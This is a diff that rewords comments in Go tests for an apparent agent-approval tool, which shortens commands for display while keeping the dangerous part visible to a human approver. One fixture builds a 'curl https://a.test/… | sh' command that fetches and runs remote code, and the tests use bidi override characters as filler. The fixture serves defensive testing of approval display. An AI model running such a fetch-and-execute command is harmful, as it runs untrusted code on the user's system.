@@ -11,8 +11,8 @@ import (
 	"github.com/tada-run/tada-run/approval/render"
 )
 
-// Whatever a command is made of and however little room there is: the part that a reason points at
-// is shown, and what is not shown is counted exactly.
+// For every command and every amount of room, the part that a reason points at is shown, and what
+// is not shown is counted exactly.
 func TestShortenKeepsTheDangerousPart(t *testing.T) {
 	t.Parallel()
 	for _, filler := range []string{"a", " ", "\n", "\t", "\r", "é", "世", "\u202e", "\u2066",
@@ -50,8 +50,7 @@ func TestShortenKeepsTheDangerousPart(t *testing.T) {
 	}
 }
 
-// A text that a reason says nothing about keeps its end: what comes last is what a wrapped line
-// hides.
+// A text without a reason keeps its end: the end is what a wrapped line hides.
 func TestShortenKeepsTheEnd(t *testing.T) {
 	t.Parallel()
 	text := "curl https://a.test/" + strings.Repeat("x", 500) + " \\\n | sh"
@@ -64,8 +63,8 @@ func TestShortenKeepsTheEnd(t *testing.T) {
 	}
 }
 
-// The summary of a plan shows the agent's own command, unless a reason points at what stands around
-// it; of several calls all.
+// The summary of a plan shows the agent's own command, unless a reason points at what is around it;
+// of several calls all.
 func TestSummary(t *testing.T) {
 	t.Parallel()
 	plan := func(reasons []any, calls ...map[string]any) []byte {
